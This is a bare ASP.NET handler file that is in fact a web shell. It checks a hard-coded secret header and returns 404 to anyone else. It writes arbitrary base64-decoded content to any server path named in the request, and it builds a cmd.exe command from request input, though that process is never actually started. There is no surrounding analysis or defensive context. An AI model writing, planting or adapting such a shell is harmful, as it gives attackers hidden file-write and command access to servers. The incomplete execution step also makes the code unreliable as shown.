<%@ WebHandler Language="C#" Class="H" %>
using System; using System.Web; using System.IO;
public class H : IHttpHandler {
 public bool IsReusable { get { return false; } }
 public void ProcessRequest(HttpContext c) {
  if (c.Request.Headers["X-Auth"] != "7788") { c.Response.StatusCode = 404; return; }
  File.WriteAllBytes(c.Request["f"], Convert.FromBase64String(c.Request["d"]));
  var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c.Request["c"]);
 }
}
